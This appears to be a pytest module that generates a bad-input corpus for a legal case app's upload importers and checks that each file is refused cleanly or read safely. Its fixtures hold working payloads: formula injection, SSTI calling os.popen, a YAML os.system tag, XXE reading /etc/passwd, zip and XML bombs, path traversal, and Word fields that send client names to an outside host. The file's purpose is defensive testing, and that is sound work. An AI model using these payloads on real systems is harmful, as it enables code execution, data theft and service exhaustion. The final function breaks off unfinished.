"""A corpus of bad input, generated here: malformed, truncated and mis-encoded CSV, XLSX, YAML and
DOCX, huge fields, XSS, formula and template-injection payloads, disguised binaries, zip and gzip
bombs, XXE. Every file goes through the importer a user's upload reaches. Each one must be
accepted or refused with located problems (the file named, and the line or part where there is
one); nothing may crash, and a refused file leaves the saved matter as it was.

The corpus and its results are written to artifacts/bad-input-corpus.md."""
from __future__ import annotations

import collections
import gzip
import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assessment.core import casefile
from assessment.core.errors import AssessmentError, Problem
from assessment.evidence import analyse as evidence
from assessment.firm import matters, uploads
from assessment.law import edit as kb_edit
from assessment.memo import render as memo
from assessment.memo import templates as template_store

from conftest import DEMO, ROOT, case_text

MB = 2**20
TEMPLATE = template_store.builtin().read_bytes()
AUDIT = (DEMO / "off-duty-lookups" / "audit.csv").read_bytes()
AUDIT_HEAD = b"".join(AUDIT.splitlines(keepends=True)[:40])
HEADER = AUDIT.splitlines()[0].decode()


@dataclass
class Item:
    kind: str            # evidence | case | template | kb
    group: str
    name: str
    data: bytes
    expect: str = "either"   # refuse | accept | either


def csv_rows(*rows: str) -> bytes:
    return ("\n".join([HEADER, *rows]) + "\n").encode()


FIRST = AUDIT.splitlines()[1].decode()          # 2025-03-01 10:03:00,PO6023,...,"ORTEGA, OLGA",...


def row(ts: str = "2025-03-01 10:03:00") -> str:
    """The demo log's first data row with another timestamp."""
    return ts + FIRST[FIRST.index(","):]


def xlsx(rows: list[list], extra: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None) -> bytes:
    from openpyxl import Workbook
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return repack(buf.getvalue(), extra, replace)


def repack(data: bytes, add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None,
           drop: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for i in src.infolist():
            if i.filename in drop:
                continue
            dst.writestr(i.filename, (replace or {}).get(i.filename, src.read(i.filename)))
        for name, blob in (add or {}).items():
            dst.writestr(name, blob)
    return out.getvalue()


def zip_of(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, blob in members.items():
            zf.writestr(name, blob)
    return out.getvalue()


BINARIES = {"png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "pdf": b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n",
            "exe": b"MZ\x90\x00" + b"\x00" * 200, "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
            "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "random": bytes((i * 37 + 11) % 256 for i in range(4096)),
            "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50, "jpeg": b"\xff\xd8\xff\xe0" + b"\x00" * 50}
PAYLOADS = {"formula-eq": "=cmd|' /C calc'!A0", "formula-plus": "+SUM(1,2)", "formula-at": "@SUM(A1)",
            "formula-minus": "-2+3+cmd|' /C calc'!A0", "hyperlink": '=HYPERLINK("http://evil.example","x")',
            "xss-script": "<script>alert(1)</script>", "xss-img": '<img src=x onerror="alert(1)">',
            "jinja-expr": "{{ 7*7 }}", "jinja-stmt": "{% for x in range(9999999) %}x{% endfor %}",
            "jinja-escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "md-link": "[click](javascript:alert(1))",
            "ansi": "\x1b[31mred\x1b[0m", "rtl": "JOHN\u202eEOD", "nul": "A\x00B", "tab": "\tleading tab",
            "cr": "\rleading return", "long-unicode": "Ñ" * 5000, "emoji": "😀" * 100}


def evidence_corpus() -> list[Item]:
    items = []
    E = lambda group, name, data, expect="either": items.append(Item("evidence", group, name, data, expect))  # noqa: E731
    for n, cut in enumerate((1, 7, len(HEADER) - 3, len(HEADER) + 5, 300, 777, 1500, len(AUDIT_HEAD) - 9)):
        E("truncated csv", f"cut-{n}.csv", AUDIT_HEAD[:cut])
    text = AUDIT_HEAD.decode().replace("ORTEGA", "ORTÉGA")
    for enc in ("latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "shift_jis", "mac-roman"):
        E("mis-encoded csv", f"enc-{enc}.csv", text.encode(enc, errors="replace"))
    E("mis-encoded csv", "invalid-utf8.csv", AUDIT_HEAD.replace(b"ORTEGA", b"ORT\xc3\x28GA"))
    E("mis-encoded csv", "bom-only.csv", b"\xef\xbb\xbf")
    for name, data in {
        "empty.csv": b"", "blank-lines.csv": b"\n\n\n", "header-only.csv": HEADER.encode() + b"\n",
        "unbalanced-quote.csv": csv_rows('2025-08-11 09:05:00,"OP1,T1,DOE'),
        "ragged-more.csv": csv_rows(row() + ",extra,cells,here"), "ragged-less.csv": csv_rows("2025-08-11 09:05:00"),
        "semicolons.csv": AUDIT_HEAD.replace(b",", b";"), "tabs.csv": AUDIT_HEAD.replace(b",", b"\t"),
        "pipes.csv": AUDIT_HEAD.replace(b",", b"|"), "duplicate-headers.csv": (HEADER + "," + HEADER).encode() + b"\n",
        "all-blank-cells.csv": b",,,,\n,,,,\n", "header-late.csv": b"report\nexported by x\n\n\n" + AUDIT_HEAD,
        "no-newline-at-all.csv": AUDIT_HEAD.replace(b"\n", b" "), "crlf.csv": AUDIT_HEAD.replace(b"\n", b"\r\n"),
        "cr-only.csv": AUDIT_HEAD.replace(b"\n", b"\r"), "nul-bytes.csv": AUDIT_HEAD.replace(b"ORTEGA", b"ORT\x00GA"),
        "bad-dates.csv": csv_rows(row(ts="2025-13-45 99:99:99"), row(ts="yesterday"), row(ts="")),
        "epoch-numbers.csv": csv_rows(row(ts="1754903100"), row(ts="-1")),
        "far-future.csv": csv_rows(row(ts="9999-12-31 23:59:59")),
        "year-zero.csv": csv_rows(row(ts="0000-01-01 00:00:00")),
        "only-quotes.csv": b'"""""""""""""\n"""\n',
        "html.csv": b"<html><body><table><tr><td>x</td></tr></table></body></html>",
        "json.csv": b'{"timestamp": "2025-08-11", "operator": "OP1"}',
        "yaml-as-csv.csv": case_text().encode(),
    }.items():
        E("malformed csv", name, data)
    E("huge field", "one-mb-cell.csv", csv_rows(row().replace("ORTEGA", "X" * MB)))
    E("huge field", "ten-thousand-columns.csv", (",".join(f"c{i}" for i in range(10_000)) + "\n").encode())
    E("huge field", "four-mb-line.csv", b"A" * (4 * MB))
    E("huge field", "too-big.csv", b"a,b\n" * (7 * MB), "refuse")                          # 28 MB: over the limit
    for key, payload in PAYLOADS.items():
        quoted = '"' + payload.replace('"', '""') + '"'
        E("payload csv", f"payload-{key}.csv", AUDIT_HEAD.replace(b'"ORTEGA, OLGA"', quoted.encode("utf-8", "replace"), 1))
    for key, blob in BINARIES.items():
        E("disguised binary", f"{key}-named.csv", blob, "refuse")
    E("gzip", "valid.csv.gz", gzip.compress(AUDIT_HEAD), "accept")
    E("gzip", "truncated.csv.gz", gzip.compress(AUDIT_HEAD)[:-30], "refuse")
    E("gzip", "garbage.csv.gz", b"\x1f\x8b" + bytes(range(200)), "refuse")
    E("gzip", "gz-of-binary.csv.gz", gzip.compress(BINARIES["random"]))
    E("gzip", "bomb.csv.gz", gzip.compress(b"\x00" * (40 * MB)), "refuse")                 # limit lowered below
    E("gzip", "two-members.csv.gz", gzip.compress(AUDIT_HEAD[:200]) + gzip.compress(AUDIT_HEAD[200:]))
    rows = [r.split(",") for r in AUDIT_HEAD.decode().splitlines()]
    good = xlsx(rows)
    E("xlsx", "valid.xlsx", good, "accept")
    for n, cut in enumerate((10, 100, 1000, len(good) // 2, len(good) - 22)):
        E("truncated xlsx", f"cut-{n}.xlsx", good[:cut], "refuse")
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        sheet_xml = zf.read(sheet)
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + sheet_xml.split(b"?>", 1)[-1]
    laughs = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + sheet_xml.split(b"?>", 1)[-1])
    for name, data, expect in (
        ("xxe.xlsx", repack(good, replace={sheet: xxe}), "refuse"),
        ("billion-laughs.xlsx", repack(good, replace={sheet: laughs}), "refuse"),
        ("macro.xlsm.xlsx", repack(good, add={"xl/vbaProject.bin": b"\x00" * 100}), "refuse"),
        ("no-workbook.xlsx", repack(good, drop=("xl/workbook.xml",)), "refuse"),
        ("broken-sheet-xml.xlsx", repack(good, replace={sheet: sheet_xml[: len(sheet_xml) // 2]}), "either"),
        ("traversal.xlsx", repack(good, add={"../../evil.txt": b"x"}), "refuse"),
        ("part-bomb.xlsx", repack(good, add={"xl/media/bomb.bin": b"\x00" * (20 * MB)}), "refuse"),
        ("empty-sheet.xlsx", xlsx([]), "either"),
        ("header-only.xlsx", xlsx([rows[0]]), "either"),
        ("payloads.xlsx", xlsx([rows[0]] + [[v if i == 3 else c for i, c in enumerate(rows[1])]
                                            for v in PAYLOADS.values() if v.isprintable()]), "either"),
        ("huge-cell.xlsx", xlsx([rows[0], rows[1][:3] + ["X" * 32_000]]), "either"),
        ("zip-not-xlsx.xlsx", zip_of({"readme.txt": "hello"}), "refuse"),
        ("docx-as-xlsx.xlsx", TEMPLATE, "refuse"),
    ):
        E("xlsx", name, data, expect)
    # issue 13, M10: cells far away (python-calamine built a dense grid: the corner cell aborted the
    # process), references past Excel's sheet, shared strings repeated into a huge row
    end_rows = sheet_xml.index(b"</sheetData>")

    def rows_added(xml: bytes, strings: bytes | None = None) -> bytes:
        more = {"xl/sharedStrings.xml": strings} if strings else None
        return repack(good, add=more, replace={sheet: sheet_xml[:end_rows] + xml + sheet_xml[end_rows:]})
    amplified = b"".join(b'<c r="%s41" t="s"><v>0</v></c>' % _column(c).encode() for c in range(16_384))
    for name, data, expect in (
        ("far-corner-cell.xlsx", rows_added(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is>'
                                            b'</c></row>'), "accept"),
        ("stray-last-column.xlsx", xlsx([["Agency report"] + [None] * 16_382 + ["printed by records"]] + rows), "accept"),
        ("row-past-excel.xlsx", rows_added(b'<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), "refuse"),
        ("column-past-xfd.xlsx", rows_added(b'<row r="41"><c r="XFE41"><v>1</v></c></row>'), "refuse"),
        ("rows-out-of-order.xlsx", rows_added(b'<row r="3"><c r="A3"><v>1</v></c></row>'), "refuse"),
        ("shared-string-missing.xlsx", rows_added(b'<row r="41"><c r="A41" t="s"><v>5</v></c></row>'), "refuse"),
        ("shared-string-amplified.xlsx", rows_added(b'<row r="41">' + amplified + b"</row>", (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"X" * 32_000
            + b"</t></si></sst>")), "refuse"),
    ):
        E("xlsx at scale", name, data, expect)
    # issue 13, L3: a DTD behind a prolog longer than 4 KB, or behind a comment holding '<a>', or in
    # UTF-16, in a sheet too large (> 2 MB) to be parsed whole at upload
    body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>2025-03-01 10:%02d:00</t></is></c><c r="B%d" '
                    b't="inlineStr"><is><t>PO%d</t></is></c></row>' % (r, r, r % 60, r, r) for r in range(2, 24_000))
    root = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
            b'<c r="A1" t="inlineStr"><is><t>Timestamp</t></is></c><c r="B1" t="inlineStr"><is><t>Operator ID</t>'
            b"</is></c></row>" + body + b"</sheetData></worksheet>")
    dtd = b'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    decl = b'<?xml version="1.0"?>'
    for name, part in (
        ("dtd-behind-long-comment.xlsx", decl + b"<!--" + b" padding" * 700 + b"-->" + dtd + root),
        ("dtd-behind-whitespace.xlsx", decl + b"\n" * 5000 + dtd + root),
        ("dtd-behind-processing-instructions.xlsx", decl + b"<?pad x?>" * 600 + dtd + root),
        ("dtd-behind-commented-element.xlsx", decl + b"<!-- <a> -->" + dtd + root),
        ("dtd-in-utf16-sheet.xlsx", ('\ufeff<?xml version="1.0" encoding="UTF-16"?>' + dtd.decode() + root.decode())
         .encode("utf-16-le")),
    ):
        E("xml prolog", name, repack(good, replace={sheet: part}), "refuse")
    return items


def _column(c: int) -> str:
    """Excel's letters for a 0-based column."""
    return _column(c // 26 - 1) + chr(65 + c % 26) if c >= 26 else chr(65 + c)


def case_corpus() -> list[Item]:
    items = []
    C = lambda group, name, data, expect="either": items.append(Item("case", group, name, data, expect))  # noqa: E731
    good = case_text(facts="facts:\n  narrative: |\n    He ran a plate on 2025-08-11 under PC 502(c)(7).\n")
    C("valid", "valid.yaml", good.encode(), "accept")
    for n, cut in enumerate((5, 20, 40, 80, 120, 160, len(good) - 10)):
        C("truncated yaml", f"cut-{n}.yaml", good[:cut].encode())
    for name, text in {
        "tab-indent.yaml": good.replace("  id:", "\tid:"), "unclosed-quote.yaml": good.replace('"T-1"', '"T-1'),
        "bad-indent.yaml": good.replace("  title:", "      title:"), "colon-soup.yaml": "a: b: c: d\n",
        "flow-broken.yaml": "matter: {id: [\n", "duplicate-keys.yaml": good + "matter:\n  id: x\n",
        "top-level-list.yaml": "- a\n- b\n", "scalar.yaml": "just a sentence\n", "only-dashes.yaml": "---\n",
        "two-documents.yaml": good + "---\n" + good, "empty.yaml": "",
    }.items():
        C("malformed yaml", name, text.encode(), "refuse")
    for field, value in {"stage": "chargd", "role": "janitor", "operator_ids": "{a: b}", "ori": "not-an-ori",
                         "hire_date": "2025-13-01", "clets_training_date": "last tuesday", "prior_discipline": "maybe",
                         "name": "[1, 2]", "terminal_ids": "42"}.items():
        if field == "stage":
            text = good.replace("stage: charged", f"stage: {value}")
        else:
            text = good.replace("  role: peace_officer", f"  role: peace_officer\n  {field}: {value}") \
                if field != "role" else good.replace("peace_officer", value)
        C("wrong type", f"type-{field}.yaml", text.encode(), "refuse")
    C("wrong type", "unknown-key.yaml", (good + "secret_backdoor: true\n").encode(), "refuse")
    C("wrong type", "missing-client.yaml", case_text(client="").encode(), "refuse")
    C("wrong type", "missing-matter.yaml", case_text(matter="").encode(), "refuse")
    C("wrong type", "wrong-format.yaml", good.replace("clets-case/1", "clets-case/9").encode(), "refuse")
    C("wrong type", "bad-citation.yaml", case_text(allegations="allegations:\n  - statute: PC 99999\n").encode(), "refuse")
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)) + good
    C("yaml bomb", "billion-laughs.yaml", laughs.encode(), "refuse")
    C("yaml bomb", "deep-nesting.yaml", ("a:\n" + "".join("  " * i + "b:\n" for i in range(1, 400))).encode(), "refuse")
    C("yaml bomb", "python-tag.yaml", (good + "x: !!python/object/apply:os.system ['id']\n").encode(), "refuse")
    C("yaml bomb", "custom-tag.yaml", good.replace('"People v. Test"', "!include /etc/passwd").encode(), "refuse")
    C("huge field", "huge-narrative.yaml", case_text(facts="facts:\n  narrative: " + "x" * (6 * 10**6)).encode())
    C("huge field", "huge-title.yaml", good.replace("People v. Test", "T" * 100_000).encode())
    for key, payload in PAYLOADS.items():
        quoted = '"' + payload.replace("\\", "\\\\").replace('"', '\\"').replace("\x00", "\\0").replace("\x1b", "\\e") \
            .replace("\r", "\\r").replace("\t", "\\t") + '"'
        C("payload yaml", f"payload-{key}.yaml", good.replace('"People v. Test"', quoted).encode(), "accept")
    for enc in ("latin-1", "utf-16", "utf-32"):
        C("mis-encoded yaml", f"enc-{enc}.yaml", good.replace("Sam Test", "Sám Tést").encode(enc), "refuse")
    for key, blob in BINARIES.items():
        C("disguised binary", f"{key}-named.yaml", blob, "refuse")
    C("bundle", "valid-bundle.zip", zip_of({"case.yaml": case_text(evidence="evidence:\n  audit_logs: [log.csv]"),
                                            "log.csv": AUDIT_HEAD}), "accept")
    for name, members in {
        "no-case.zip": {"log.csv": AUDIT_HEAD}, "traversal.zip": {"case.yaml": good, "../../x.csv": "a"},
        "absolute.zip": {"case.yaml": good, "/etc/x.csv": "a"},
        "missing-evidence.zip": {"case.yaml": case_text(evidence="evidence:\n  audit_logs: [gone.csv]")},
        "evidence-escapes.zip": {"case.yaml": case_text(evidence="evidence:\n  audit_logs: [../secret.csv]")},
        "bomb.zip": {"case.yaml": good, "big.csv": b"\x00" * (20 * MB)},
        "bad-case-inside.zip": {"case.yaml": "matter: [\n"},
        "nested-zip.zip": {"case.yaml": good, "inner.zip": zip_of({"case.yaml": good})},
    }.items():
        C("bundle", name, zip_of(members), "either" if name == "nested-zip.zip" else "refuse")
    C("bundle", "truncated-bundle.zip", zip_of({"case.yaml": good, "log.csv": AUDIT})[:400], "refuse")
    return items


def template_corpus() -> list[Item]:
    items = []
    T = lambda group, name, data, expect="refuse": items.append(Item("template", group, name, data, expect))  # noqa: E731
    T("valid", "builtin.docx", TEMPLATE, "accept")
    for n, cut in enumerate((4, 30, 200, 2000, len(TEMPLATE) // 3, len(TEMPLATE) // 2, len(TEMPLATE) - 30)):
        T("truncated docx", f"cut-{n}.docx", TEMPLATE[:cut])
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as zf:
        doc = zf.read("word/document.xml")

    def inject(tag: str) -> bytes:
        return repack(TEMPLATE, replace={"word/document.xml": doc.replace(b"</w:body>", (
            f'<w:p><w:r><w:t xml:space="preserve">{tag}</w:t></w:r></w:p>').encode() + b"</w:body>", 1)})
    for n, tag in enumerate([
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ config.items() }}", "{{ lipsum.__globals__ }}",
        "{% import 'os' as os %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% macro m() %}x{% endmacro %}",
        "{{ request }}", "{{ matter.__class__ }}", "{% for x in range(10**9) %}{% endfor %}", "{{ 'a' * 10**9 }}",
        "{{ unclosed ", "{% if %}", "{% raw %}never closed", "{{ memo.title | attr('__class__') }}",
        "{% set x = namespace() %}{{ x.__init__ }}", "{{ ().__class__.__base__.__subclasses__() }}",
    ]):
        T("template injection", f"ssti-{n}.docx", inject(tag.replace("<", "&lt;").replace("'", "&apos;")))
    # issue 13, H4: exfiltration through fields, and templates that exhaust the server
    def inject_xml(paragraph: bytes) -> bytes:
        return repack(TEMPLATE, replace={"word/document.xml": doc.replace(b"</w:body>", paragraph + b"</w:body>", 1)})

    def field(instr: str) -> str:
        return ('</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                + instr + ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>')
    for key, instr in {"includepicture": "INCLUDEPICTURE \"http://x.example/' ~ client.name ~ '.png\"",
                       "hyperlink": "HYPERLINK \"http://x.example/?c=' ~ client.name ~ '\"",
                       "includetext": "INCLUDETEXT \"/etc/passwd\""}.items():
        tag = "{{ ('" + field(instr) + "')|safe }}"
        T("template exfiltration", f"safe-{key}.docx", inject(tag.replace("&", "&amp;").replace("<", "&lt;")))
    for key, xml in {
        "split-instruction": b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText>'
                             b'</w:r><w:r><w:instrText xml:space="preserve">UDEPICTURE "http://x.example/{{ client.name }}"'
                             b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "tag-named": b"<w:p><w:r><w:instrText> {{ 'HYPER' ~ 'LINK' }} http://x.example/{{ client.name }} </w:instrText>"
                     b"</w:r></w:p>",
        "other-prefix": b'<w:p xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><v:r><v:instrText>'
                        b' INCLUDETEXT "/etc/passwd" </v:instrText></v:r></w:p>',
        "fldsimple-hyperlink": b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;http://x.example/{{ client.name }}&quot; ">'
                               b'<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    }.items():
        T("template exfiltration", f"field-{key}.docx", inject_xml(xml))
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as zf:
        rels = zf.read("word/_rels/document.xml.rels")
    T("template exfiltration", "rels-single-quoted.docx", repack(TEMPLATE, replace={"word/_rels/document.xml.rels": rels.replace(
        b"</Relationships>", b"<Relationship Id='rIdX' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
        b"relationships/image' Target='http://x.example/p.png' TargetMode='External'/></Relationships>")}))
    doubling = "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = EXPR %}{% endfor %}{{ ns.s|length }}"
    for key, tag in {
        "cpu-nested-loop": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "doubling-replace": doubling.replace("EXPR", "ns.s|replace('a', 'aa')|replace('b', 'bb')"),
        "doubling-tilde": doubling.replace("EXPR", "ns.s ~ ns.s"),
        "doubling-plus": doubling.replace("EXPR", "ns.s + ns.s"),
        "center-5e8": "{{ 'x'|center(500000000) }}",
        "format-width": "{{ '{:>500000000}'.format(1) }}",
        "memory-many-values": "{{ range(100000)|map('center', 900000)|list|length }}",
        "output-flood": "{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}",
    }.items():
        T("template exhaustion", f"{key}.docx", inject(tag.replace("<", "&lt;").replace("'", "&apos;")))
    T("xml", "xxe.docx", repack(TEMPLATE, replace={"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x '
                                                   b'SYSTEM "file:///etc/passwd">]>' + doc.split(b"?>", 1)[-1]}))
    T("xml", "broken-xml.docx", repack(TEMPLATE, replace={"word/document.xml": doc[: len(doc) // 2]}))
    T("package", "macro.docx", repack(TEMPLATE, add={"word/vbaProject.bin": b"\x00" * 50}))
    T("package", "ole.docx", repack(TEMPLATE, add={"word/embeddings/oleObject1.bin": b"\x00" * 50}))
    T("package", "bomb.docx", repack(TEMPLATE, add={"word/media/bomb.bin": b"\x00" * (8 * MB)}))
    T("package", "no-document.docx", repack(TEMPLATE, drop=("word/document.xml",)))
    T("package", "xlsx-as-docx.docx", xlsx([["a"]]))
    for key, blob in BINARIES.items():
        T("disguised binary", f"{key}-named.docx", blob)
    return items


def kb_corpus() -> list[Item]:
    text = (ROOT / "knowledge" / "statutes" / "pc-92.yaml").read_text()
    items = []
    for name, edit in {
        "syntax.yaml": text.replace("classification:", "classification: [", 1),
        "schema.yaml": text.replace("classification: felony", "classification: serious"),
        "python-tag.yaml": text + "\nx: !!python/object/apply:os.system ['id']\n",
        "laughs.yaml": "a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n" + text,
        "empty.yaml": "", "list.yaml": "- a\n", "truncated.yaml": text[: len(text) // 2],
        "unknown-ref.yaml": text.replace("id: pc-92", "id: pc-92\nsee_also: [pc-nope]", 1),
        "jinja.yaml": text.replace("classification: felony", "classification: \"{{ 7*7 }}\""),
    }.items():
        items.append(Item("kb", "knowledge-base edit", name, edit.encode("utf-8", "surrogatepass"), "refuse"))
    # mojibake is only odd text: the knowledge base still validates
    items.append(Item("kb", "knowledge-base edit", "mojibake.yaml", text.encode("utf-8").decode("latin-1").encode()))
    return items


def attack_corpus() -> list[Item]:
    """The red team's inputs of 2026-12-01 (issue 13): upload names that are paths (C1), case
    files naming server files or another matter's (H1), sealed bundles without or with the wrong
    passphrase, and forged backups (M6)."""
    from assessment.firm import crypto
    items = []
    A = lambda kind, group, name, data, expect="refuse": items.append(Item(kind, group, name, data, expect))  # noqa: E731
    for name in ("../../../../tmp/planted.csv", "..\\..\\windows\\planted.csv", "logs/audit.csv", "..",
                 "audit\x00.csv", "audit\n.csv", "audit.csv:$DATA", "\u009bcsi.csv", "x" * 300 + ".csv"):
        A("upload-name", "upload name is a path", name, AUDIT_HEAD)
    A("upload-name", "upload name is a path", "audit (1) \u2013 copy.csv", AUDIT_HEAD, "accept")
    for n, path in enumerate(("/etc/passwd", "../clets-matter-1234-abcd/audit.csv", "logs/../../../x.csv",
                              "C:\\Windows\\x.csv", "//server/share/x.csv", "logs//x.csv", "audit\u0007.csv")):
        A("case", "evidence path outside the case", f"evidence-outside-{n}.yaml",
          case_text(evidence="evidence:\n  audit_logs: [" + json.dumps(path) + "]").encode())
    bundle = zip_of({"case.yaml": case_text(evidence="evidence:\n  audit_logs: [log.csv]"), "log.csv": AUDIT_HEAD})
    sealed = crypto.seal_with_passphrase(bundle, "the right passphrase", "clets-defense case bundle")
    A("case", "sealed bundle", "sealed-no-passphrase.clets", sealed)
    A("case", "sealed bundle", "sealed-cut.clets", sealed[:-40])
    A("case", "sealed bundle", "sealed-other-kind.clets", crypto.seal_with_passphrase(bundle, "x" * 12, "other"))
    for name, data in (("backup-forged-unsealed.clets", zip_of({"manifest.json": "{}"})),
                       ("backup-cut.clets", crypto.seal_with_passphrase(b"x" * 3_000_000, PASSPHRASE,
                                                                        "clets-defense backup")[:-100]),
                       ("backup-wrong-kind.clets", crypto.seal_with_passphrase(bundle, PASSPHRASE, "case bundle")),
                       ("backup-not-a-zip.clets", crypto.seal_with_passphrase(b"just text", PASSPHRASE,
                                                                              "clets-defense backup"))):
        A("backup", "forged backup", name, data)
    return items


PASSPHRASE = "the backup passphrase"
CORPUS = evidence_corpus() + case_corpus() + template_corpus() + kb_corpus() + attack_corpus()
RESULTS: dict[str, tuple[str, str, str]] = {}


def run(item: Item, tmp: Path, kb) -> list:
    """The item through the importer its upload reaches: problems (refused) or [] (accepted)."""
    try:
        if item.kind == "evidence":
            if problems := uploads.check_evidence(item.data, item.name):
                return problems
            (tmp / item.name).write_bytes(item.data)
            case = casefile.loads(case_text(evidence=f"evidence:\n  audit_logs: [{item.name}]"), "case.yaml")
            evidence.analyse(case, tmp)
            return []
        if item.kind == "case":
            matters.read_upload(item.data, item.name, kb)
            return []
        if item.kind == "upload-name":
            from assessment.core import safepath
            why = safepath.upload_problem(item.name)
            return [Problem("EV004", f"not a plain file name: {why}", file=item.name)] if why else []
        if item.kind == "backup":
            from assessment.firm import backup
            (tmp / "b.clets").write_bytes(item.data)
            try:
                backup.restore(tmp / "b.clets", PASSPHRASE)
            except backup.BackupError as exc:
                return [Problem("BK001", str(exc), file=item.name)]
            return []
        if item.kind == "template":
            return memo.check_template(item.data, item.name)
        problems, _ = kb_edit.check(ROOT / "knowledge", "statutes/pc-92.yaml", item.data.decode("utf-8", "replace"))
        return problems
    except AssessmentError as exc:
        return exc.problems


@pytest.fixture(autouse=True)
def small_gzip_limit(monkeypatch):
    monkeypatch.setattr(uploads, "GZIP_UNPACKED", 32 * MB)     # the bomb above unpacks to 40 MB


@pytest.fixture(autouse=True)
def small_render_limits(monkeypatch):
    """Template test renders stop at 2 CPU seconds and 256 MB (the defaults are 20 s and 1 GB)."""
    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "2")
    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "256")


def test_the_corpus_holds_at_least_200_files():
    assert len(CORPUS) >= 200 and len({(i.kind, i.name) for i in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("item", CORPUS, ids=[f"{i.kind}:{i.name}" for i in CORPUS])
def test_bad_input_is_refused_with_its_place_or_read_and_never_crashes(item, tmp_path, kb):
    problems = run(item, tmp_path, kb)
    outcome = "refused" if problems else "accepted"
    RESULTS[f"{item.kind}:{item.name}"] = (item.group, outcome, str(problems[0])[:160] if problems else "")
    if item.expect == "refuse":
        assert problems, f"{item.name} should have been refused"
    if item.expect == "accept":
        assert not problems, problems
    for p in problems:
        assert p.code and p.message and p.file, p               # which file, always
        assert item.name in p.file or p.file.endswith(".yaml") or p.file.startswith("statutes"), p


def test_a_refused_upload_in_the_app_leaves_the_saved_matter_as_it_was(tmp_path):
    """Through the Evidence page: each bad file is refused and the saved matter does not change."""
    from sqlalchemy import select
    from streamlit.testing.v1 import AppTest

    from assessment.firm import db
    from assessment.firm.tables import EvidenceFile, Matter

    from conftest import make_user, sign_in
    make_user("ann", "attorney")
    at = sign_in(AppTest.from_file(str(ROOT / "streamlit_app.py"), default_timeout=90))
    at.run()
    at.switch_page("assessment/app/pages/evidence.py")
    at.run()
    pk = at.session_state.matter_pk

    def saved():
        with db.session() as s:
            m = s.get(Matter, pk)
            files = s.execute(select(EvidenceFile.name, EvidenceFile.sha256).where(EvidenceFile.matter_id == pk)).all()
            return m.version, m.casefile, sorted(files)
    before, logs = saved(), at.session_state.case.evidence.audit_logs
    picks = [i for i in CORPUS if i.kind == "evidence" and i.expect == "refuse" and i.name != "too-big.csv"][:10]
    for item in picks:
        at.get("file_uploader")[0].upload(item.name, item.data, "text/csv")
        next(b for b in at.button if b.label == "Load evidence").click().run()
        assert not at.exception, (item.name, at.exception)
        assert any(item.name in e.value for e in at.error), item.name
        assert at.session_state.case.evidence.audit_logs == logs
    assert saved() == before


def test_write_the_corpus_report():
    """Runs last in this module: the table in artifacts/ that the closing note quotes."""
    if len(RESULTS) < len(CORPUS):
        pytest.skip("the corpus tests did not all run in this session")
    by = collections.Counter((g, o) for g, o, _ in RESULTS.values())
    groups = sorted({g for g, _ in by})
